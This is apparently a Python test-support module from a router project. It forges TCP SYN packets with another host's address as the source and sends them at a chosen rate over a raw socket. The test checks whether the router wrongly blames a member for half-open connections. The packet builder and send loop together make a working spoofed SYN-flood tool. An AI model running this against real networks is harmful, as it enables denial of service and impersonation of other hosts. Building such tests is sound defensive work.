"""Forged TCP SYNs: an outsider that writes another host's address as the source (issue 40).

What a third host with no certificate can do to a router's `tls/` port without ever
completing a TCP handshake: send SYNs whose IP source is a member's address. The router
answers each with a SYN-ACK to the member (who, while out of reach, never answers: the
router holds a half-open connection for about a minute), so whatever judges sources by
half-open connections judges the member. Python's raw socket, no scapy:

    worker on host c                                   host a (the router)
    spoof_start(member, a, port, rate) ──IPv4 SYN, source = member──►  SYN_RECV from member
      a thread, one SYN every 1/rate s (a pace: the attack's rate)     SYN-ACK ─► member
    spoof_counts() / spoof_stop(): how many were sent

`syn_packet` builds one packet (IPv4 header with `IP_HDRINCL`: the kernel fills in the
header checksum, the total length and the id; the TCP checksum is ours, over the
pseudo-header of RFC 793). Run in a worker (`tests/support/hosts.py`), as root (a raw
socket needs `CAP_NET_RAW`); the state lives in the worker's `hosts.KEPT["spoof"]`.
"""

from __future__ import annotations

import random
import socket
import struct
import threading

from tests.support import hosts

__all__ = ["spoof_counts", "spoof_start", "spoof_stop", "syn_packet"]

_SYN = 0x02
_MSS = 1460


def _checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of `data`."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source: str, target: str, source_port: int, port: int, seq: int) -> bytes:
    """An IPv4 packet holding a TCP SYN from `source`:`source_port` to `target`:`port`
    with sequence number `seq` and an MSS option, as a client's first packet looks."""
    options = struct.pack("!BBH", 2, 4, _MSS)  # MSS
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", source_port, port, seq, 0, offset << 4, _SYN, 64240, 0, 0)
    segment = header + options
    pseudo = (
        socket.inet_aton(source)
        + socket.inet_aton(target)
        + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    )
    check = _checksum(pseudo + segment)
    segment = segment[:16] + struct.pack("!H", check) + segment[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,  # version 4, 5 words
        0,
        0,  # total length: the kernel's
        0,  # id: the kernel's
        0x4000,  # don't fragment
        64,
        socket.IPPROTO_TCP,
        0,  # header checksum: the kernel's
        socket.inet_aton(source),
        socket.inet_aton(target),
    )
    return ip + segment


def spoof_start(source: str, target: str, port: int, rate: float) -> None:
    """Send SYNs from `source` (another host's address) to `target`:`port`, `rate` a
    second, each from a fresh random port, on a thread, until `spoof_stop`."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    counts = {"sent": 0}
    stop = threading.Event()
    draw = random.Random()  # noqa: S311 (ports and sequence numbers, not secrets)

    def send() -> None:
        with sock:
            while not stop.wait(1.0 / rate):  # the attack's pace, not a synchronisation
                packet = syn_packet(
                    source, target, draw.randrange(1024, 65536), port, draw.getrandbits(32)
                )
                sock.sendto(packet, (target, 0))
                counts["sent"] += 1

    thread = threading.Thread(target=send, name="spoof", daemon=True)
    hosts.KEPT["spoof"] = (counts, stop, thread)
    thread.start()


def spoof_counts() -> dict[str, int]:
    """The SYNs sent so far: {"sent": n}."""
    return dict(hosts.KEPT["spoof"][0])


def spoof_stop() -> dict[str, int]:
    """Stop sending (within one pace); the SYNs sent."""
    counts, stop, thread = hosts.KEPT["spoof"]
    stop.set()
    thread.join(5.0)
    return dict(counts)
